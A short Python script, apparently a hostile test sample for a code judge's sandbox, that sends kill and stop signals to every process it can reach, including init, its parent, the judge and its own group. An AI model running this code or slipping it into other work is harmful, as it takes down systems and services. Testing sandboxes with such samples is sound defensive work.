# Kills every process it can name: itself, its group, its parent, the judge and all others.
# held by: processes
import os
import signal

for process in (0, -1, 1, JUDGE, os.getppid(), *range(2, 3000)):
    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
        try:
            os.kill(process, number)
        except OSError:
            pass
os.killpg(0, signal.SIGKILL)
